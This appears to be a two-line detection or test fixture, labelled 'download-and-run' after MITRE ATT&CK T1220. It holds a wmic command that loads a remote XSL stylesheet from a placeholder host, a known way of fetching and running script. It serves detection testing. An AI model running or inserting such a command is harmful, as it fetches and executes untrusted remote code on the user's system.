@rem expect: download-and-run | source: MITRE ATT&CK T1220
wmic os get /format:"http://files.example.invalid/a.xsl"
